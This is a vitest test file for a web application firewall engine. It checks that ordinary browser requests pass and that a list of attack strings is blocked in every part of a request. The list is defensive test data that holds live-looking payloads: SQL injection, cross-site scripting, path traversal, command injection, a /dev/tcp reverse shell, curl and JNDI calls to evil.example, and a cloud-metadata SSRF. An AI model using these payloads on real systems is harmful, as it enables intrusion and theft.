import { describe, expect, it } from 'vitest';
import { hasCorpus, readCorpus, bodyOf, headOf, partOf } from '../../test/engine/corpus.ts';
import { differences, hasLuajit } from '../../test/engine/differential.ts';
import { generate, SETUP } from '../../test/engine/generator.ts';
import { TestHost } from '../../test/engine/host.ts';
import { ORDINARY } from '../../test/engine/ordinary.ts';
import type { RequestHead, Verdict } from './engine.ts';
import { compileKeyring, compilePolicy, decideBody, decideHead, explain } from './engine.ts';

const gateway = { trusted_proxies: [], keyring: compileKeyring([]) };
const policy = compilePolicy({ id: 't' }, { id: 'r' });
const judge = (head: RequestHead, body: string): Verdict => {
  const host = new TestHost();
  const decision = decideHead(host, gateway, policy, head);
  return decision.verdict ?? decideBody(host, gateway, policy, head, decision, body);
};
const wire = (text: string) => Buffer.from(text, 'utf8').toString('latin1');
const chrome = {
  'user-agent':
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36',
  accept: 'text/html',
  'accept-language': 'en',
  'accept-encoding': 'gzip',
};
const send = (target: string, extra: Record<string, string> = {}, body = ''): Verdict =>
  judge(
    {
      method: body === '' ? 'GET' : 'POST',
      target: wire(target),
      host: 'a',
      scheme: 'http',
      remote_ip: '192.0.2.1',
      headers: Object.entries({ ...chrome, ...extra }).map(([name, value]) => ({ name, value: wire(value) })),
    },
    wire(body),
  );

describe('ordinary requests', () => {
  it.each(ORDINARY.map((each) => [JSON.stringify(each).slice(0, 90), each] as const))(
    '%s passes',
    (_name, each) => {
      const extra = {
        ...each.headers,
        ...(each.type ? { 'content-type': each.type, 'content-length': '1' } : {}),
        ...(each.cookie ? { cookie: each.cookie } : {}),
      };
      const verdict = send(each.target ?? '/page', extra, each.body ?? '');
      expect(verdict.decided, explain(verdict)).toBe('pass');
    },
  );
});

const attacks: [string, string][] = [
  ['a tautology', "x' or 'a'='a"],
  ['a tautology of numbers', '7 and 2=2'],
  ['a union', '-5 union all select null,version()'],
  ['a hidden union', '1/**/UnIoN/*x*/SeLeCt(1),2'],
  ['a delay', "1;waitfor delay '0:0:9'"],
  ['a login', "bob'-- "],
  ['a stacked statement', '5; drop table orders'],
  ['a subquery', '1-(select count(*) from users)'],
  ['script', '<script src=//x.example>'],
  ['an event', '"><b onmouseover=steal()>'],
  ['a script URL', 'javascript:fetch(1)'],
  ['an encoded URL', '<a href="jav&#x09;ascript:x()">'],
  ['svg', '<svg><animate onbegin=a() attributeName=x>'],
  ['a file', '../../../../etc/hostname'],
  ['a Windows file', '..\\..\\windows\\win.ini'],
  ['an encoded file', '%252e%252e%252f%252e%252e%252fetc%252fpasswd'],
  ['a wrapper', 'php://input'],
  ['a command', '8.8.8.8; uname -a'],
  ['a piped command', 'a | nc 10.0.0.1 99'],
  ['a quoted command', "x;w'h'oami"],
  ['a substitution', '$(curl http://evil.example)'],
  ['a device', 'bash -i >& /dev/tcp/1.2.3.4/5 0>&1'],
  ['a lookup', '${jndi:ldap://evil.example/a}'],
  ['a nested lookup', '${${lower:j}ndi:rmi://evil.example}'],
  ['a template', '{{9*9}}'],
  ['a template object', "{{''.__class__.__mro__}}"],
  ['a PHP object', 'O:8:"Exploit":1:{s:1:"a";}'],
  ['a prototype', '{"__proto__":{"admin":1}}'],
  ['an entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'],
  ['metadata', 'http://169.254.169.254/latest/meta-data/'],
  ['LDAP', 'x)(|(uid=*))'],
  ['an operator', '{"user":{"$ne":null},"$where":"1"}'],
  ['a header', 'a\r\nSet-Cookie: b=c'],
  ['a union glued to its number', '.1union select 1,2'],
  ['a condition glued to its number', '1or 1=1'],
  ['a constant condition', '1 or not false'],
  ['a condition on a name', "1 and current_user='sa'"],
  ['a condition after a parenthesis', '[4]) or 3=3--'],
  ['a delete', '1; delete from accounts'],
  ['a row constructor', "1' union values row(1,2)-- "],
  ['SQL glued by comments', '7/**/and/**/7=7'],
  ['a comment after an operator', "x' collate nocase--"],
  ['characters by number', 'char(97)+char(98)'],
  ['blanks encoded once too often', "9'+or+8=8--+"],
  ['a bare program after a file', '/list.html|id|'],
  ['a bare program after an address', '192.0.2.9 | ps'],
  ['a program with an argument', ';ping x.example'],
  ['a program that reads a file', ';cat<notes.txt'],
  ['a brace expansion', '{cat,/srv/list}'],
  ['an empty variable in a name', 'who$@ami'],
  ['quotes in a name', "w'ho'ami"],
  ['a caret in a name', 'who^ami'],
  ['an assigned name', ';a=who;b=ami;$a$b'],
  ['ANSI-C quotes', "$'\\x69\\x64'"],
  ['a cmdlet', ';Get-Content C:\\list.txt'],
  ['a Windows account', '& net user guest x /add'],
  ['a location', "location='//x.example'"],
  ['a split scheme', 'java\tscript:x'],
  ['a repository', '/.git/config'],
  ['a repeated text', "{{'a'*10}}"],
  ['a .NET stream', 'AAEAAAD/////AQAAAAAAAAAMAgAAAE'],
  ['a pickle', "cos\nsystem\n(S'id'\ntR."],
  ['a Ruby object', '!ruby/object:Gem::Installer'],
  ['a call behind a comment', 'exec/*x*/(1)'],
  ['a response', 'x\n\nHTTP/1.1 200 OK'],
  ['a cell', "=cmd|'/c calc'!A1"],
  ['UTF-7', '<?xml version="1.0" encoding="UTF-7"?>'],
];

describe('attacks', () => {
  it.each(attacks)('%s is blocked in a query, a form, JSON, a cookie and a header', (_name, text) => {
    const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '1' };
    const json = { 'content-type': 'application/json', 'content-length': '1' };
    const places: Record<string, Verdict> = {
      query: send(`/a?q=${encodeURIComponent(text)}`),
      form: send('/a', form, `q=${encodeURIComponent(text)}`),
      json: send('/a', json, JSON.stringify({ a: { q: [text] } })),
      cookie: send('/a', { cookie: `q=${encodeURIComponent(text)}` }),
      header: send('/a', { 'x-q': text }),
      base64: send(`/a?q=${Buffer.from(text).toString('base64url')}`),
    };
    for (const [place, verdict] of Object.entries(places))
      expect(verdict.decided, `${place}: ${explain(verdict)}`).toBe('block');
  });
});

describe.skipIf(!hasCorpus())('the request data', () => {
  const rate = (name: 'attacks' | 'legit', part?: number): number => {
    const samples = readCorpus(name).filter((sample) => part === undefined || partOf(sample) === part);
    return (
      samples.filter((sample) => judge(headOf(sample), bodyOf(sample)).decided !== 'pass').length /
      samples.length
    );
  };
  it('at least 85 % of the attacks are acted on', () => expect(rate('attacks')).toBeGreaterThanOrEqual(0.85));
  it('at most 0.2 % of the legitimate requests are', () => expect(rate('legit')).toBeLessThanOrEqual(0.002));
  it('at least 80 % of the attacks that no rule was written by', () =>
    expect(rate('attacks', 2)).toBeGreaterThanOrEqual(0.8));
});

describe.skipIf(!hasLuajit())('the Lua engine', () => {
  it('decides as the JavaScript engine does', { timeout: 60_000 }, () => {
    expect(differences(SETUP, generate(3000, 42))).toEqual([]);
  });
});
